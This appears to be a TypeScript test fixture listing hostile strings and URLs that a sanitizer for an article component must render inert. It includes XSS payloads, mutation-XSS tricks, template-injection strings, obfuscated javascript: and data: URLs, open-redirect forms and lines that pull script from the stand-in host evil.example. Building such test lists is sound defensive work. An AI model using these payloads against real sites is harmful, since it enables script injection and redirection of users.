/** What must stay text wherever it stands. Script in it would set `__pwned`, or open a dialog. */
export const STRINGS: readonly string[] = [
  // elements that run script
  '<script>window.__pwned=1</script>',
  '"><script>__pwned=1</script>',
  "'><script src=//evil.example/x.js></script>",
  '</script><script>__pwned=1</script>',
  '<scr<script>ipt>__pwned=1</scr</script>ipt>',
  '<SCRIPT\n>__pwned=1</SCRIPT\t>',
  '<script type="module">import("data:text/javascript,__pwned=1")</script>',
  // handlers
  '<img src=x onerror=__pwned=1>',
  '<img src=x onerror="alert(1)">',
  '" onload="__pwned=1" x="',
  "' onfocus='__pwned=1' autofocus tabindex='1",
  '<body onload=__pwned=1>',
  '<details open ontoggle=__pwned=1>',
  '<input autofocus onfocus=confirm(1)>',
  '<video><source onerror=prompt(1)></video>',
  '<audio src onerror=__pwned=1>',
  '<p onpointerenter=__pwned=1 style=position:fixed;inset:0>over all',
  '`onerror=__pwned=1`',
  // foreign content and mutation
  '<svg onload=__pwned=1>',
  '<svg><script>__pwned=1</script></svg>',
  '<svg><a xlink:href="javascript:__pwned=1"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=__pwned=1 attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=__pwned=1></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=__pwned=1>',
  '<noscript><p title="</noscript><img src=x onerror=__pwned=1>">',
  '<template><img src=x onerror=__pwned=1></template>',
  '<textarea></textarea><img src=x onerror=__pwned=1>',
  '<title></title><img src=x onerror=__pwned=1>',
  '<xmp><p title="</xmp><img src=x onerror=__pwned=1>">',
  '<!--><img src=x onerror=__pwned=1>-->',
  '<![CDATA[<img src=x onerror=__pwned=1>]]>',
  '<?xml version="1.0"?><img src=x onerror=__pwned=1>',
  '--><img src=x onerror=__pwned=1><!--',
  '</p></article></galley-article><iframe src="javascript:parent.__pwned=1"></iframe>',
  '<plaintext>',
  // frames, forms, and what changes a page
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<object data="data:text/html,<script>parent.__pwned=1</script>"></object>',
  '<embed src="javascript:__pwned=1">',
  '<form action="javascript:__pwned=1"><button>Go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:__pwned=1">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"; body { display: none }</style>',
  '<a id=defaultView name=defaultView href="javascript:__pwned=1">x</a>',
  '<galley-article src="https://evil.example/a.json"></galley-article>',
  // entities and templates
  '&lt;script&gt;__pwned=1&lt;/script&gt;',
  '&#60;img src=x onerror=__pwned=1&#62;',
  '&amp;lt;b&amp;gt; &quot; &apos; &nosuch; &#0; &#x110000; &lt',
  '${__pwned=1} {{__pwned=1}} {{{__pwned=1}}} <%= __pwned=1 %> #{__pwned=1}',
  '{{constructor.constructor("__pwned=1")()}}',
  '[[${__pwned=1}]] *{__pwned} @{__pwned=1} v-html="__pwned=1"',
  // styles and addresses
  'red;background:url(javascript:__pwned=1)',
  'expression(__pwned=1)',
  'javascript:__pwned=1',
  'java\tscript:__pwned=1//',
  'data:text/html,<script>parent.__pwned=1</script>',
  // names that objects have already
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  // characters
  '\0\u0001\u0008\u000b\u001f\u007f\u0085\u009f',
  'line\r\nfeed\rreturn\u2028line\u2029paragraph\ttab',
  '\u202eright to left\u202c \u2066isolated\u2069 \u200e\u200f\u061c',
  'half \ud800 pair \udfff \ufffe\uffff\ufeff',
  `zalgo ${'a' + '\u0301\u0316\u0489'.repeat(30)}`,
  `${'<b>'.repeat(400)}deep`,
  'x'.repeat(6_000),
  '',
  ' \u00a0\u200b ',
];

/** Addresses of every kind that has been used to reach what it should not, and some that are what they seem. */
export const URLS: readonly string[] = [
  // script in a scheme, plain and hidden
  'javascript:__pwned=1', 'JAVASCRIPT:__pwned=1', 'jAvAsCrIpT:__pwned=1', ' javascript:__pwned=1', '\tjavascript:__pwned=1', '\njavascript:__pwned=1', '\u0000javascript:__pwned=1', '\u0001javascript:__pwned=1',
  '\u001fjavascript:__pwned=1', 'java\tscript:__pwned=1', 'java\nscript:__pwned=1', 'java\rscript:__pwned=1', 'java\0script:__pwned=1', 'javascript\t:__pwned=1', 'javascript\n:__pwned=1', 'javascript :__pwned=1', 'javascript:\n__pwned=1',
  'javascript://e.example/%0a__pwned=1', 'javascript://%0d__pwned=1', 'javascript:"https://e.example";__pwned=1', 'javascript&colon;__pwned=1', 'javascript&#58;__pwned=1', '&#106;avascript:__pwned=1', '&#x6A;avascript:__pwned=1',
  'javascript%3A__pwned=1', '%6aavascript:__pwned=1', '\\u006aavascript:__pwned=1', 'javascript\uff1a__pwned=1', '\uff4aavascript:__pwned=1', 'java\u200bscript:__pwned=1', 'java\u00adscript:__pwned=1', '\u00a0javascript:__pwned=1',
  '\u2028javascript:__pwned=1', '\ufeffjavascript:__pwned=1', '\u202ejavascript:__pwned=1', 'java\u017fcript:__pwned=1', 'feed:javascript:__pwned=1', 'view-source:javascript:__pwned=1', 'url:javascript:__pwned=1', 'jar:javascript:__pwned=1!/',
  'vbscript:msgbox(1)', 'VBScript:msgbox(1)', 'vb\tscript:msgbox(1)', 'livescript:x', 'mocha:x', 'mhtml:https://e.example/!x',
  // documents in the address
  'data:text/html,<script>__pwned=1</script>', 'data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=', 'data:,x', 'data:;base64,eA==', 'DATA:text/html,x', 'da\tta:text/html,x', 'data:image/svg+xml,<svg onload=__pwned=1>',
  'data:image/svg+xml;base64,PHN2Zy8+', 'data:image/png;base64,iVBORw0KGgo=', 'data:image/png,<script>__pwned=1</script>', 'data:text/javascript,__pwned=1', 'data:application/xhtml+xml,<html/>', 'blob:https://e.example/6a1b', 'blob:null/x', 'filesystem:https://e.example/temporary/x',
  // other schemes
  'file:///etc/hosts', 'file://e.example/share', 'ftp://e.example/x', 'ws://e.example/', 'wss://e.example/', 'about:blank', 'about:srcdoc', 'chrome://settings/', 'view-source:https://e.example/', 'intent://e.example/#Intent;end', 'ms-settings:privacy', 'sms:+1', 'urn:isbn:1', 'cid:x', 'x:y', '://e.example/', ':', 'https', 'https:', 'https:/', 'https://', 'https:///', 'http:e.example', 'https:e.example/a', 'https:/e.example/a',
  // what looks as if it stayed on the site
  '//evil.example/x', '///evil.example/x', '////evil.example/x', '/\\evil.example/x', '\\\\evil.example/x', '\\/evil.example/x', '/\t/evil.example/x', '/\n/evil.example', '//\\evil.example', 'https:\\\\evil.example', '/.//evil.example/x', '/..//evil.example/x', './/evil.example/x', '..//evil.example/x', '//', '/\u00ad/evil.example', '.\\evil',
  // who, where, which door
  'https://user@e.example/', 'https://user:secret@e.example/', 'https://:@e.example/', 'https://e.example@evil.example/', 'https://e.example:80@evil.example/', 'https://@e.example/', 'https://e.example%40evil.example/', 'https://e.example\\@evil.example/', 'https://e.example#@evil.example/', 'https://e.example?@evil.example/',
  'https://e.example:443/a', 'https://e.example:8443/a', 'https://e.example:0/', 'https://e.example:65536/', 'https://e.example:-1/', 'https://e.example:a/', 'http://e.example:80/', 'https://e.example:/', 'https://e.example:00443/',
  // names and numbers of hosts
  'https://m\u00fcnchen.example/', 'https://\u043f\u0440\u0438\u043c\u0435\u0440.example/', 'https://\u0440\u0430\u0443pal.example/', 'https://xn--mnchen-3ya.example/', 'https://\uff45.example/', 'https://e\u3002example/', 'https://e.example./', 'https://e..example/', 'https://.example/', 'https://-e.example/', 'https://e_e.example/', 'https://E.EXAMPLE/', 'https://%65.example/', 'https://e%2eexample/', 'https://e%00.example/', 'https://e .example/', 'https://e<b>.example/', 'https://127.1/', 'https://0x7f.1/', 'https://2130706433/', 'https://0177.0.0.1/', 'https://1.2.3.4.5/', 'https://256.1.1.1/', 'https://[::1]/', 'https://[::ffff:127.0.0.1]/', 'https://[::1', 'https://[v1.x]/', 'https://localhost/', 'https://\u2460\u2461.example/',
  // paths, queries, fragments
  'https://e.example/a b?c d#e f', 'https://e.example/"><script>__pwned=1</script>', "https://e.example/'onclick=__pwned=1", 'https://e.example/`{|}^<>', 'https://e.example/%', 'https://e.example/%zz%00%0a', 'https://e.example/a/../../b/./c', 'https://e.example/%2e%2e/b', 'https://e.example/a;b=c,d', 'https://e.example/?q=<b>&amp;"', 'https://e.example/#<script>', 'https://e.example/\u062f\u0631\u06cc\u0627?\u00fc#\u00fc', 'https://e.example/\u202egpj.exe', 'https://e.example/\u0085', 'https://e.example/\0', 'https://e.example/\ud800', 'https://e.example/a\nb', 'https://e.example/a\\b', `https://e.example/${'a'.repeat(2_030)}`, `https://e.example/${'a'.repeat(2_031)}`, `https://e.example/${'\u0434'.repeat(400)}`,
  '#', '#part', '#javascript:__pwned=1', '#"onclick=__pwned=1', '?', '?javascript:__pwned=1', '', ' ', '.', '..', '/', 'a', 'a/b.jpg', './javascript:__pwned=1', '../a', '/a?b#c', 'a:b', 'a b', 'b.jpg, data:image/svg+xml,x', 'a 1x, https://evil.example/b 2x', ',a.jpg,', 'mailto:desk@e.example', 'mailto:desk@e.example?subject=a%0abcc:x', 'MAILTO:x', 'mailto:', 'tel:+431234', 'tel:javascript:__pwned=1', 'https://e.example/ok?a=b&c=d#e', 'http://e.example/ok',
];
